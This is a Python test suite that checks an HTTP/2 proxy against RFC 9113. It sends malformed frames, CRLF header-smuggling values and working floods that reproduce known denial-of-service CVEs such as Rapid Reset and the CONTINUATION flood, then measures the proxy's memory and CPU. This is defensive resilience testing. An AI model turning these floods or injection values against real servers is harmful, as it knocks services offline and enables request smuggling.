"""Breaks each rule of HTTP/2 once, and floods; judges how the proxy reacts, what reaches the upstream, and the proxy's memory.

The control is a server that accepts every frame: there, the same judges must object.
"""

import collections
import multiprocessing
import re
import subprocess
import time

import naive
from frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE, PRIORITY, PUSH_PROMISE,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, WITH_PRIORITY, ACK, Connection, Witness, block, frame, request, setting,
)  # fmt: skip
from client.proxy import Process, die_with_parent
from check import Proxy, Report, Suite, mebibytes
from upstream import Upstream

# What a recipient may do about a malformed request (RFC 9113, 8.1.1): it is an error of the stream, which may be made
# one of the connection (5.4.2), and may be answered before.
MALFORMED = {"reset:PROTOCOL_ERROR", "goaway:PROTOCOL_ERROR", "400", "closed"}


def fatal(*codes):
    """An error of the connection. A GOAWAY should be sent, but needn't (5.4.1)."""
    return {f"goaway:{code}" for code in codes or ("PROTOCOL_ERROR",)} | {"closed"}


# What it may do about frames on a stream that has ended (5.1).
AFTER_THE_END = {"reset:STREAM_CLOSED", *fatal("STREAM_CLOSED", "PROTOCOL_ERROR")}
# What it may do about a header that is too large (10.5.1).
TOO_LARGE = {
    *MALFORMED, "431", "reset:REFUSED_STREAM", "goaway:ENHANCE_YOUR_CALM", "reset:ENHANCE_YOUR_CALM",
    "goaway:COMPRESSION_ERROR",
}  # fmt: skip

SCENARIOS = []


def scenario(section, title, allowed, **options):
    """Registers what follows: a function that gets a connection and the bytes of a body that nobody else sends."""

    def register(act):
        SCENARIOS.append((section, title, allowed, act, options))
        return act

    return register


def malformed(section, title, *more, allowed=MALFORMED, leave_out=(), **changes):
    """Registers a request whose fields break a rule."""

    @scenario(section, title, allowed)
    def act(connection, body):
        fields = [(name, changes.get(name.strip(":"), value)) for name, value in request(leave_out=leave_out)]
        connection.headers(1, fields + list(more))
        connection.data(1, body)


# MARK: Well-formed requests


@scenario("8.1", "a plain request", {"201"})
def plain(connection, body):
    connection.post(1, body)


@scenario("8.1", "trailers", {"201", *MALFORMED})
def trailers(connection, body):
    connection.headers(1, request())
    connection.data(1, body, end=False)
    connection.headers(1, [("foo", "bar")], end=True)


@scenario("6.10", "a header in three frames", {"201"})
def continued(connection, body):
    fields = block(request())
    connection.send(
        frame(HEADERS, 0, 1, fields[:20]) + frame(CONTINUATION, 0, 1, fields[20:40])
        + frame(CONTINUATION, END_HEADERS, 1, fields[40:])
    )  # fmt: skip
    connection.data(1, body)


@scenario("6.1", "padding", {"201"})
def padded(connection, body):
    connection.send(frame(HEADERS, END_HEADERS | PADDED, 1, b"\x05" + block(request()) + bytes(5)))
    connection.send(frame(DATA, END_STREAM | PADDED, 1, b"\xff" + body + bytes(255)))


@scenario("6.3", "PRIORITY, in a frame and in a header", {"201"})
def priority(connection, body):
    connection.send(frame(PRIORITY, 0, 7, b"\0\0\0\1\x10"))
    connection.send(frame(HEADERS, END_HEADERS | WITH_PRIORITY, 1, b"\0\0\0\0\x10" + block(request())))
    connection.data(1, body)


@scenario("4.1", "a frame of an unknown type", {"201"})
def unknown_frame(connection, body):
    connection.send(frame(0x42, 0xFF, 0, b"?" * 100) + frame(0x43, 0, 3, b"?"))
    connection.post(1, body)


@scenario("6.5.2", "an unknown setting", {"201"})
def unknown_setting(connection, body):
    connection.send(frame(SETTINGS, payload=setting(0x4242, 1)))
    connection.post(1, body)


@scenario("RFC 7541 6", "Huffman code and the dynamic table", {"201"})
def compressed(connection, body):
    connection.send(frame(HEADERS, END_HEADERS, 1, block(request(), huffman=True)))
    connection.data(1, body)


# MARK: Malformed requests

malformed("8.2.1", "an upper-case name", ("Foo", "bar"))
malformed("8.2.1", "a space in a name", ("fo o", "bar"))
malformed("8.2.1", "a colon in a name", ("fo:o", "bar"))
malformed("8.2.1", "a control character in a name", ("fo\1o", "bar"))
malformed("8.2.1", "a name that isn't ASCII", (b"fo\xc3\xb6", "bar"))
malformed("8.2.1", "an empty name", ("", "bar"), allowed={*MALFORMED, "goaway:COMPRESSION_ERROR"})
malformed("8.2.1", "a line break in a name", ("foo: bar\r\nfoo", "bar"))
malformed("8.2.1", "a line break in a value", ("foo", "bar\r\ncontent-length: 0"))
malformed("8.2.1", "a CR in a value", ("foo", "bar\rbaz"))
malformed("8.2.1", "an LF in a value", ("foo", "bar\nbaz"))
malformed("8.2.1", "a NUL in a value", ("foo", "bar\0baz"))
malformed("8.2.1", "a line break in a value that is passed on", ("cwa-fake", "0\r\nhost: elsewhere"))
malformed("8.2.2", "connection", ("connection", "close"))
malformed("8.2.2", "keep-alive", ("keep-alive", "1"))
malformed("8.2.2", "proxy-connection", ("proxy-connection", "keep-alive"))
malformed("8.2.2", "upgrade", ("upgrade", "h2c"))
malformed("8.2.2", "transfer-encoding", ("transfer-encoding", "chunked"))
malformed("8.2.2", "te with another value than trailers", ("te", "gzip"))
malformed("8.3", "an unknown pseudo-field", (":foo", "bar"))
malformed("8.3", "a pseudo-field of answers", (":status", "200"))
malformed("8.3", "a pseudo-field behind the others", (":path", "/version/v1/tan"), leave_out=(":path",))
malformed("8.3.1", "no method", leave_out=(":method",))
malformed("8.3.1", "no scheme", leave_out=(":scheme",))
malformed("8.3.1", "no path", leave_out=(":path",))
malformed("8.3.1", "an empty path", path="")
malformed("8.3.1", "a method twice", (":method", "POST"))
malformed("8.3.1", "a path twice", (":path", "/version/v1/tan"))
malformed("8.1.1", "a line break in the method", method="POST /version/v1/tan HTTP/1.1\r\nfoo: bar\r\n\r\nPOST")
malformed("8.1.1", "a space in the method", method="POST /version/v1/tan", allowed={*MALFORMED, "405", "501"})
malformed("8.1.1", "a line break in the path", path="/version/v1/tan HTTP/1.1\r\nfoo: bar", allowed={*MALFORMED, "404"})
malformed("8.1.1", "a space in the path", path="/version/v1/tan foo", allowed={*MALFORMED, "404"})
malformed("8.1.1", "content-length above the data", ("content-length", "1000"))
malformed("8.1.1", "content-length below the data", ("content-length", "1"))
malformed("8.1.1", "two content-lengths that differ", ("content-length", "12"), ("content-length", "1"))
malformed("8.1.1", "content-length with a sign", ("content-length", "+12"))
malformed("8.1.1", "content-length that isn't a number", ("content-length", "x"))


@scenario("8.1.1", "content-length above zero, and no data", MALFORMED)
def no_data(connection, body):
    connection.headers(1, request("/version/v1/tan", ("content-length", "5")), end=True)


@scenario("8.1", "pseudo-fields in the trailers", MALFORMED)
def pseudo_trailers(connection, body):
    connection.headers(1, request())
    connection.data(1, body, end=False)
    connection.headers(1, [(":path", "/version/v1/registrationToken")], end=True)


@scenario("8.1", "trailers that don't end the stream", MALFORMED)
def endless_trailers(connection, body):
    connection.headers(1, request())
    connection.data(1, body, end=False)
    connection.headers(1, [("foo", "bar")])


@scenario("8.1", "a stream that is reset in the middle of its body", {"nothing"})
def reset_body(connection, body):
    connection.headers(1, request())
    connection.data(1, body, end=False)
    connection.send(frame(RST_STREAM, 0, 1, b"\0\0\0\x08"))


@scenario("8.1", "a connection that ends in the middle of a body", {"closed"})
def cut_body(connection, body):
    connection.headers(1, request())
    connection.data(1, body, end=False)
    time.sleep(0.1)
    connection.close()
    connection.closed = True


@scenario("8.1", "a connection that breaks a rule in the middle of another stream's body", fatal())
def spoilt_body(connection, body):
    connection.headers(1, request())
    connection.data(1, body, end=False)
    time.sleep(0.1)
    connection.send(frame(WINDOW_UPDATE, payload=bytes(4)))


for path in (
    "/version/v1/%74an", "/version/v1/../v1/tan", "//version/v1/tan", "/version/v1/tan/", "/Version/v1/tan",
    "/version/v1/tan/verify", "https://localhost/version/v1/tan", "*", "version/v1/tan",
):  # fmt: skip
    malformed("8.3.1", f"the path {path}", path=path, allowed={*MALFORMED, "404"})


# MARK: Errors of the connection


@scenario("3.4", "another preface", fatal(), preface=b"PRI * HTTP/2.0\r\n\r\nSX\r\n\r\n")
def wrong_preface(connection, body):
    connection.post(1, body)


@scenario("3.4", "HTTP/1.1 where HTTP/2 was agreed", fatal(), preface=b"POST /version/v1/tan HTTP/1.1\r\n\r\n")
def not_http2(connection, body):
    connection.post(1, body)


@scenario("4.2", "a frame over SETTINGS_MAX_FRAME_SIZE", fatal("FRAME_SIZE_ERROR"))
def large_frame(connection, body):
    connection.headers(1, request())
    connection.data(1, body + bytes(20_000))


@scenario("4.3", "a header block that can't be decoded", fatal("COMPRESSION_ERROR"))
def bad_block(connection, body):
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"))


@scenario("RFC 7541 2.3.3", "an index that the tables don't have", fatal("COMPRESSION_ERROR"))
def bad_index(connection, body):
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block(request()) + b"\xfe"))


@scenario("RFC 7541 4.2", "a larger dynamic table than was allowed", fatal("COMPRESSION_ERROR"))
def large_table(connection, body):
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x3f\xe1\xff\xff\x07" + block(request())))


@scenario("5.1", "DATA on an idle stream", fatal("PROTOCOL_ERROR", "STREAM_CLOSED"))
def idle_data(connection, body):
    connection.data(1, body)


@scenario("5.1", "WINDOW_UPDATE on an idle stream", fatal())
def idle_window(connection, body):
    connection.send(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"))


@scenario("5.1", "RST_STREAM on an idle stream", fatal())
def idle_reset(connection, body):
    connection.send(frame(RST_STREAM, 0, 1, b"\0\0\0\0"))


@scenario("5.1", "CONTINUATION on an idle stream", fatal())
def idle_continuation(connection, body):
    connection.send(frame(CONTINUATION, END_HEADERS, 1, block(request())))


@scenario("5.1", "DATA on a stream that is closed", AFTER_THE_END, stream=3)
def closed_data(connection, body):
    connection.post(3, b"before")
    connection.answered(3)
    connection.data(3, body)


@scenario("5.1", "HEADERS on a stream that is closed", AFTER_THE_END, stream=3)
def closed_headers(connection, body):
    connection.post(3, b"before")
    connection.answered(3)
    connection.headers(3, request())
    connection.data(3, body)


@scenario("5.1", "DATA behind the end of the stream", AFTER_THE_END)
def half_closed_data(connection, body):
    # In one write, before the answer to the first can have gone.
    connection.send(
        frame(HEADERS, END_HEADERS | END_STREAM, 1, block(request("/version/v1/nowhere")))
        + frame(DATA, END_STREAM, 1, body)
    )


@scenario("5.1.1", "an even stream", fatal())
def even(connection, body):
    connection.headers(2, request())
    connection.data(2, body)


@scenario("5.1.1", "a stream below an earlier one", fatal("PROTOCOL_ERROR", "STREAM_CLOSED"), stream=3)
def lower(connection, body):
    connection.post(5, b"before")
    connection.answered(5)
    connection.headers(3, request())
    connection.data(3, body)


@scenario("5.1.1", "stream 0", fatal())
def zero(connection, body):
    connection.headers(0, request())
    connection.data(0, body)


@scenario("6.1", "more padding than payload", fatal())
def overpadded(connection, body):
    connection.headers(1, request())
    connection.send(frame(DATA, END_STREAM | PADDED, 1, b"\xff" + body))


@scenario("6.2", "another frame inside of a header", fatal())
def interrupted(connection, body):
    connection.send(frame(HEADERS, 0, 1, block(request())) + frame(PING, 0, 0, bytes(8)))


@scenario("6.2", "another stream's CONTINUATION inside of a header", fatal())
def interrupted_stream(connection, body):
    connection.send(frame(HEADERS, 0, 1, block(request())) + frame(CONTINUATION, END_HEADERS, 3, block(request())))


@scenario("6.3", "PRIORITY of a wrong length", {"reset:FRAME_SIZE_ERROR", *fatal("FRAME_SIZE_ERROR")})
def short_priority(connection, body):
    connection.send(frame(PRIORITY, 0, 1, b"\0\0\0\0"))


@scenario("6.4", "RST_STREAM of a wrong length", fatal("FRAME_SIZE_ERROR"))
def short_reset(connection, body):
    connection.headers(1, request())
    connection.send(frame(RST_STREAM, 0, 1, b"\0\0\0"))


@scenario("6.5", "SETTINGS of a wrong length", fatal("FRAME_SIZE_ERROR"))
def short_settings(connection, body):
    connection.send(frame(SETTINGS, payload=b"\0\0\0"))


@scenario("6.5", "SETTINGS on a stream", fatal())
def stream_settings(connection, body):
    connection.send(frame(SETTINGS, stream=1, payload=setting(3, 1)))


@scenario("6.5", "an acknowledgement with settings", fatal("FRAME_SIZE_ERROR"))
def long_acknowledgement(connection, body):
    connection.send(frame(SETTINGS, ACK, payload=setting(3, 1)))


@scenario("6.5.2", "SETTINGS_ENABLE_PUSH 2", fatal())
def push_setting(connection, body):
    connection.send(frame(SETTINGS, payload=setting(2, 2)))


@scenario("6.5.2", "SETTINGS_INITIAL_WINDOW_SIZE 2^31", fatal("FLOW_CONTROL_ERROR"))
def window_setting(connection, body):
    connection.send(frame(SETTINGS, payload=setting(4, 1 << 31)))


@scenario("6.5.2", "SETTINGS_MAX_FRAME_SIZE 1", fatal())
def small_frame_setting(connection, body):
    connection.send(frame(SETTINGS, payload=setting(5, 1)))


@scenario("6.5.2", "SETTINGS_MAX_FRAME_SIZE 2^24", fatal())
def large_frame_setting(connection, body):
    connection.send(frame(SETTINGS, payload=setting(5, 1 << 24)))


@scenario("6.6", "PUSH_PROMISE from a client", fatal())
def promise(connection, body):
    connection.headers(1, request())
    connection.send(frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2" + block(request())))


@scenario("6.7", "PING of a wrong length", fatal("FRAME_SIZE_ERROR"))
def short_ping(connection, body):
    connection.send(frame(PING, payload=bytes(7)))


@scenario("6.7", "PING on a stream", fatal())
def stream_ping(connection, body):
    connection.send(frame(PING, stream=1, payload=bytes(8)))


@scenario("6.8", "GOAWAY on a stream", fatal())
def stream_goaway(connection, body):
    connection.send(frame(GOAWAY, stream=1, payload=bytes(8)))


@scenario("6.9", "a WINDOW_UPDATE of nothing", fatal())
def no_window(connection, body):
    connection.send(frame(WINDOW_UPDATE, payload=bytes(4)))


@scenario("6.9", "a WINDOW_UPDATE of nothing for a stream", {"reset:PROTOCOL_ERROR", *fatal()})
def no_stream_window(connection, body):
    connection.headers(1, request())
    connection.send(frame(WINDOW_UPDATE, stream=1, payload=bytes(4)))


@scenario("6.9", "WINDOW_UPDATE of a wrong length", fatal("FRAME_SIZE_ERROR"))
def short_window(connection, body):
    connection.send(frame(WINDOW_UPDATE, payload=bytes(3)))


@scenario("6.9.1", "the connection's window beyond 2^31 - 1", fatal("FLOW_CONTROL_ERROR"))
def wide_window(connection, body):
    connection.send(frame(WINDOW_UPDATE, payload=b"\x7f\xff\xff\xff") * 2)


@scenario("6.9.1", "a stream's window beyond 2^31 - 1", {"reset:FLOW_CONTROL_ERROR", *fatal("FLOW_CONTROL_ERROR")})
def wide_stream_window(connection, body):
    connection.headers(1, request())
    connection.send(frame(WINDOW_UPDATE, stream=1, payload=b"\x7f\xff\xff\xff") * 2)


@scenario("6.9.1", "more data than the window has room for",
          {"413", "reset:FLOW_CONTROL_ERROR", *fatal("FLOW_CONTROL_ERROR")})  # fmt: skip
def beyond_window(connection, body):
    fields = request("/version/v1/diagnosis-keys", ("content-type", "application/x-protobuf"))
    connection.headers(1, [pair for pair in fields if pair != ("content-type", "application/json")])
    # In one write, so that no window can have been opened on the way; but not so much that it were a flood.
    connection.send(frame(DATA, 0, 1, bytes(16_384)) * 200)
    connection.data(1, body)


@scenario("5.1.2", "more streams than SETTINGS_MAX_CONCURRENT_STREAMS",
          {"reset:REFUSED_STREAM", "reset:PROTOCOL_ERROR", *fatal("PROTOCOL_ERROR", "ENHANCE_YOUR_CALM")},
          stream=None)  # fmt: skip
def many_streams(connection, body):
    connection.send(b"".join(frame(HEADERS, END_HEADERS, 2 * n + 1, block(request())) for n in range(2000)))


@scenario("10.5.1", "a header of 200 fields", TOO_LARGE)
def many_fields(connection, body):
    connection.headers(1, request("/version/v1/tan", *[(f"foo-{n}", "bar" * 20) for n in range(200)]))
    connection.data(1, body)


@scenario("10.5.1", "a field of 15,000 bytes", {*TOO_LARGE, "201"})
def large_field(connection, body):
    connection.headers(1, request("/version/v1/tan", ("foo", "b" * 15_000)))
    connection.data(1, body)


# MARK: Judging one rule


def outcome(connection, stream, patience):
    """What the server did, in one word."""

    def settles(event):
        match event:
            case ("goaway", code, _) if code != "NO_ERROR":
                return True
            case ("reset", number, _):
                return stream is None or number == stream
            case ("answer" | "data", number, _, True):
                return number == stream
        return False

    event = connection.read(patience, until=settles)
    if event is None:
        return "closed" if connection.closed else "nothing"
    match event:
        case ("goaway", code, _):
            return f"goaway:{code}"
        case ("reset", _, code):
            return f"reset:{code}"
    return str(next(event[2] for event in connection.events if event[:2] == ("answer", stream)))


def run_scenarios(port, context, upstream, only="", patience=5):
    """For each scenario what there is to object to; the last list is for what is wrong with several.

    `patience`: seconds that a busy machine may take. Where nothing is to come, less is waited."""
    results, unclosed = [], []
    for number, (section, title, allowed, act, options) in enumerate(SCENARIOS):
        if only not in title:
            continue
        name = f"{section}, {title}"
        body = b"rule-%03d" % number
        if upstream:
            upstream.take()
        connection = Connection(port, context, preface=options.get("preface", PREFACE))
        act(connection, body)
        # Answers to what a scenario does before don't count.
        stream = options.get("stream", 1)
        connection.events.clear()
        what = outcome(connection, stream, min(patience, 1.5) if "nothing" in allowed else patience)
        objections = []
        if what not in allowed:
            objections.append(f"{name}: {what} instead of {' or '.join(sorted(allowed))}")
        if what.startswith("goaway"):
            connection.read(min(patience, 3))
            if not connection.closed:
                unclosed.append(name)
        connection.close()
        if upstream:
            # What the end of the connection may have set going.
            time.sleep(0.1)
            seen = upstream.take()
            got = sum(one.body == body for one in seen)
            objections += [f"{name}: the upstream got {one.flaws}" for one in seen if one.flaws]
            objections += [f"{name}: the upstream got it {got} times"] * (got != (what == "201"))
            strange = collections.Counter(one.body for one in seen if one.body not in (body, b"before"))
            objections += [
                f"{name}: the upstream got {body[:40]!r}, which nobody sent, {times} times"
                for body, times in strange.items()
            ]
        results.append(objections)
    if unclosed:
        # One flaw, so it is one objection.
        results[-1].append(f"after {len(unclosed)} errors the connection stays open (5.4.1), such as {unclosed[0]}")
    return results


# MARK: Floods


def rapid_reset(connection):
    """CVE-2023-44487: requests that are withdrawn at once."""
    stream = 1
    for _ in range(100):
        data = b""
        for _ in range(100):
            data += frame(HEADERS, END_HEADERS, stream, block(request(body=b"reset")))
            data += frame(DATA, END_STREAM, stream, b"reset") + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            stream += 2
        if not connection.send(data):
            break
    return f"{stream // 2} requests withdrawn"


def made_reset(connection):
    """CVE-2025-8671: requests that the server itself is made to reset, by frames that are an error of the stream."""
    stream = 1
    for _ in range(100):
        data = b""
        for _ in range(100):
            data += frame(HEADERS, END_HEADERS, stream, block(request(body=b"reset")))
            # A window over its maximum is an error of the stream; one that grows by nothing ends the connection at nghttp2.
            data += frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")
            stream += 2
        if not connection.send(data):
            break
    return f"{stream // 2} requests spoilt"


def continuation(connection):
    """CVE-2024-27316: a header without end."""
    connection.send(frame(HEADERS, 0, 1, block(request())))
    fields = block([(f"foo-{n}", "bar" * 100) for n in range(50)])[:16_000]
    for _ in range(12_288):
        if not connection.send(frame(CONTINUATION, 0, 1, fields)):
            break
    return f"{mebibytes(connection.sent)} of header"


def empty_continuation(connection):
    """A header without end, in frames without content."""
    connection.send(frame(HEADERS, 0, 1, block(request())))
    for _ in range(500):
        if not connection.send(frame(CONTINUATION, 0, 1) * 1000):
            break
    return f"{connection.sent // 9} frames"


def settings(connection):
    """CVE-2019-9515: settings whose acknowledgements aren't read."""
    for _ in range(500):
        if not connection.send(frame(SETTINGS, payload=setting(3, 1)) * 1000):
            break
    return f"{connection.sent // 15} frames"


def pings(connection):
    """CVE-2019-9512: pings whose answers aren't read."""
    for _ in range(500):
        if not connection.send(frame(PING, payload=bytes(8)) * 1000):
            break
    return f"{connection.sent // 17} frames"


def empty_data(connection):
    """CVE-2019-9518: data without content."""
    connection.headers(1, request())
    for _ in range(500):
        if not connection.send(frame(DATA, 0, 1) * 1000):
            break
    return f"{connection.sent // 9} frames"


def priorities(connection):
    """CVE-2019-9513: priorities without end."""
    for n in range(500):
        if not connection.send(b"".join(frame(PRIORITY, 0, 2 * m + 1, b"\0\0\0\0\x10") for m in range(n, n + 1000))):
            break
    return f"{connection.sent // 14} frames"


def window_updates(connection):
    """Windows that grow by a byte each time."""
    for _ in range(500):
        if not connection.send(frame(WINDOW_UPDATE, payload=b"\0\0\0\1") * 1000):
            break
    return f"{connection.sent // 13} frames"


def resets(connection):
    """Resets of a stream that has ended, hyperium/h2#935."""
    connection.post(1, b"reset")
    connection.answered(1)
    for _ in range(500):
        if not connection.send(frame(RST_STREAM, 0, 1, b"\0\0\0\x08") * 1000):
            break
    return f"{connection.sent // 13} frames"


def table_churn(connection):
    """Requests whose fields throw each other out of the dynamic table, and whose settings and updates resize it."""
    big = b"".join(b"\x40\x01" + name + b"\x7f\x81\x1e" + b"b" * 3968 for name in (b"a", b"b", b"c"))
    stream = 1
    for _ in range(400):
        data = frame(SETTINGS, payload=setting(1, 0) + setting(1, 4096))
        head = b"\x20\x3f\xe1\x1f" + block(request("/version/v1/nowhere", method="GET")) + big
        if not connection.send(data + frame(HEADERS, END_HEADERS | END_STREAM, stream, head)):
            break
        stream += 2
        if not connection.answered(stream - 2):
            break
    return f"{stream // 2} requests"


def header_bomb(connection):
    """CVE-2016-6581: one large field in the dynamic table, referenced repeatedly by one byte each."""
    big = b"\x40\x03foo" + b"\x7f\xa1\x1e" + b"b" * 4000
    connection.send(frame(HEADERS, END_HEADERS, 1, block(request()) + big))
    connection.data(1, b"bomb")
    stream = 3
    for _ in range(200):
        # 16,000 times 4,000 bytes.
        if not connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block(request()) + b"\xbe" * 16_000)):
            break
        stream += 2
    return f"{stream // 2} headers that would be 61 MiB each"


def window_stall(connection):
    """CVE-2019-9517: answers for which the client opens no window."""
    head = block(request(body=b"stall"))
    connection.send(
        b"".join(
            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, b"stall")
            for stream in range(1, 199, 2)
        )
    )
    return "99 answers stalled on each"


def dribble(connection):
    """CVE-2019-9511: answers that are taken byte by byte."""
    window_stall(connection)
    one = b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in range(1, 199, 2))
    for _ in range(300):
        if not connection.send(one):
            break
    return f"99 answers byte by byte on each, {connection.sent // 13} windows at most"


def half_requests(connection):
    """Bodies that never end, on all streams that there may be."""
    head = block(request("/version/v1/diagnosis-keys", ("cwa-fake", "0")))
    connection.send(
        b"".join(
            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, bytes(600))
            for stream in range(1, 199, 2)
        )
    )
    return "99 bodies unfinished on each"


# With what its connections are opened; and whether they are all held at one time, or made one after the other.
FLOODS = [
    (rapid_reset, {}, False), (made_reset, {}, False), (continuation, {}, False), (empty_continuation, {}, False),
    (settings, {"receive_buffer": 4096}, False), (pings, {"receive_buffer": 4096}, False), (empty_data, {}, False),
    (priorities, {}, False), (window_updates, {}, False), (resets, {}, False), (table_churn, {}, False),
    (header_bomb, {}, False), (dribble, {"settings": setting(4, 0)}, False),
    (window_stall, {"settings": setting(4, 0)}, True), (half_requests, {}, True),
]  # fmt: skip


def _attack(pipe, flood, options, held, port, suite, seconds):
    """In a process of its own, so that the witness isn't slowed down."""
    die_with_parent()
    context = suite.app_context(["h2"])
    ends = collections.Counter()
    words, made = "", 0
    connections = []
    # Connections that are held begin slowly where each has a hundred requests.
    deadline = time.monotonic() + (10 if held else seconds)
    while time.monotonic() < deadline and len(connections) < 40:
        connection = Connection(port, context, timeout=10, **options)
        if not made:
            pipe.send("begun")
        words = flood(connection)
        made += 1
        connections.append(connection)
        if not held:
            connections.remove(connection)
            ends[end_of(connection, options, 0.5)] += 1
    if held:
        time.sleep(seconds)
    for connection in connections:
        ends[end_of(connection, options)] += 1
    pipe.send((made, words, ", ".join(f"{count} × {end}" for end, count in ends.most_common(3))))


def end_of(connection, options, patience=0.1):
    """How the server took it."""
    if not options.get("receive_buffer"):
        connection.read(patience, until=lambda event: event[0] == "goaway" and event[1] != "NO_ERROR")
    codes = [event[1] for event in connection.events if event[0] == "goaway" and event[1] != "NO_ERROR"]
    resets = any(event[0] == "reset" for event in connection.events)
    connection.close()
    if codes:
        return f"GOAWAY {codes[0]}"
    return "closed" if connection.closed or connection.broken else "streams reset" if resets else "tolerated"


def attack(flood, options, held, port, suite, seconds):
    """Runs one flood to its end: how many connections, what was sent on each, and how they ended."""
    # A process that is forked while other threads run may find a lock that one of them held, and wait for it forever. It is
    # known by having no connection.
    for _ in range(3):
        ours, theirs = multiprocessing.Pipe()
        process = multiprocessing.get_context("fork").Process(
            target=_attack, args=(theirs, flood, options, held, port, suite, seconds), daemon=True
        )
        process.start()
        theirs.close()
        try:
            if ours.poll(15):
                ours.recv()
                return ours.recv() if ours.poll(seconds + 60) else (0, "", "hangs")
        except EOFError:
            return 0, "", "fails"
        finally:
            process.kill()
            process.join()
    return 0, "", "hangs"


# The most that the proxy may grow by in a flood. Measured are 15 MiB where 4,000 requests are held, with connections to
# the services, and less elsewhere; the careless server takes 180, or 120 where the machine has more to do.
ALLOWED_GROWTH = 48 << 20
# What one connection may cost, in seconds of a core: handshake, flood, and the others' requests meanwhile. Measured are 2 to
# 7 ms, before the floods' own limits end them.
ALLOWED_CPU = 0.05


def run_flood(report, suite, upstream, flood, options, held):
    """One flood, on a proxy that hasn't grown in another."""
    name = flood.__name__.replace("_", " ")
    http1, http2 = suite.app_context(), suite.app_context(["h2"])
    with Proxy(suite, upstream.port) as proxy:
        # What every process grows by at first isn't counted.
        with Witness(proxy.port, http1, http2, pause=0.01):
            time.sleep(0.5)
        used, start = proxy.cpu, time.monotonic()
        with proxy.growth() as growth, Witness(proxy.port, http1, http2) as witness:
            made, words, end = attack(flood, options, held, proxy.port, suite, 20 if suite.long else 2)
            time.sleep(0.3)
        each, share = (proxy.cpu - used) / max(made, 1), (proxy.cpu - used) / (time.monotonic() - start)
        report.require(proxy.is_running, f"{name}: the proxy's process has ended")
        for text in proxy.errors():
            report.require(False, text)
    # Where memory is all that an attacker takes, the proxy may turn others away, but soon.
    others = witness.verdict(report, name, 5, may_be_shed=held)
    report.require(growth.most < ALLOWED_GROWTH, f"{name}: the proxy grows by {mebibytes(growth.most)}")
    report.require(each < ALLOWED_CPU, f"{name}: a connection costs {each * 1000:.0f} ms of a core")
    report.require(end not in ("hangs", "fails"), f"{name}: the attacker {end}")
    report.say(
        f"{name}: {made} connections, {words}; {end}; {each * 1000:.0f} ms of a core each, "
        f"{share:.0%} of a core in all; grown by {mebibytes(growth.most)}; {others}"
    )


def plain_load(report, suite, proxy):
    """h2load, a client that many know, finds nothing to complain about."""
    body = suite.scratch / "body"
    body.write_bytes(b"x" * 250)
    for version, connections in (("--npn-list=h2", 8), ("--h1", 64)):
        words = subprocess.run(
            ["h2load", version, "-n2000", f"-c{connections}", "-m8", "-t1", "-d", body,
             "-H", "content-type: application/json", f"https://127.0.0.1:{proxy.port}/version/v1/tan"],
            capture_output=True, text=True, timeout=120,
        ).stdout  # fmt: skip
        report.require(
            "2000 succeeded, 0 failed, 0 errored, 0 timeout" in words and "status codes: 2000 2xx" in words,
            f"h2load {version}: {words[-600:]}",
        )
        protocol = re.search("Application protocol: (.*)", words)
        report.say(f"h2load: 2000 requests over {protocol[1] if protocol else '?'}, all answered")


def plain_clients(report, suite, proxy):
    """curl and nghttp, whose requests have priorities, each post twice on one connection."""
    body = suite.scratch / "body"
    body.write_bytes(b"x" * 250)
    uri = f"https://127.0.0.1:{proxy.port}/version/v1/tan"
    media = "content-type: application/json"
    for name, command in (
        ("curl", ["curl", "-sk", "--http2", "-H", media, "--data-binary", f"@{body}", "-w", "%{http_version} %{http_code} ", uri, uri]),
        ("nghttp", ["nghttp", "-ns", "-m2", "-H", media, "-d", body, uri]),
    ):
        words = subprocess.run(command, capture_output=True, text=True, timeout=60).stdout
        # A line of nghttp's statistics has the status, the size and the path.
        answers = words.count("2 201 ") if name == "curl" else len(re.findall(r" 201 +\d+\S* /version/v1/tan", words))
        report.require(answers == 2, f"{name}: {answers} answers: {words[-300:]}")
        report.say(f"{name}: {answers} answers")


def main():
    suite = Suite(__doc__.splitlines()[0])
    report = Report("http2")
    context = suite.app_context(["h2"])
    with Upstream(suite) as upstream:
        with Proxy(suite, upstream.port) as proxy:
            results = run_scenarios(proxy.port, context, upstream, suite.only)
            for objections in results:
                for text in objections:
                    report.require(False, text)
            report.say(f"{len(results)} cases: rules broken, and rules kept at their limits")
            if not suite.only:
                plain_load(report, suite, proxy)
            if suite.only in "clients":
                plain_clients(report, suite, proxy)
            report.require(proxy.is_running, "the proxy's process has ended")
            for text in proxy.errors():
                report.require(False, text)
        for flood, options, held in FLOODS:
            if suite.only in flood.__name__:
                report.in_time(lambda: run_flood(report, suite, upstream, flood, options, held))
                upstream.numbers()
    if suite.only:
        report.end()
        return
    with naive.lax(suite) as (port, pid):
        results = run_scenarios(port, context, None, patience=0.2)
        caught = sum(bool(objections) for objections in results)
        report.say(f"control: the judge objects to {caught} of {len(results)} on a server that accepts everything.")
        report.require(caught >= len(results) / 2, "the judge finds nothing wrong with that server")
        with Process(pid).growth() as growth:
            used = Process(pid).cpu
            made, _, _ = attack(continuation, {}, False, port, suite, 5)
            each = (Process(pid).cpu - used) / max(made, 1)
        report.say(
            f"control: in a flood of CONTINUATION that server grows by {mebibytes(growth.most)}, and spends {each * 1000:.0f} ms on each"
        )
        report.require(growth.most > ALLOWED_GROWTH, "a flood doesn't make a careless server grow")
        report.require(each > ALLOWED_CPU, "a flood costs a careless server nothing")
    report.end()


if __name__ == "__main__":
    main()
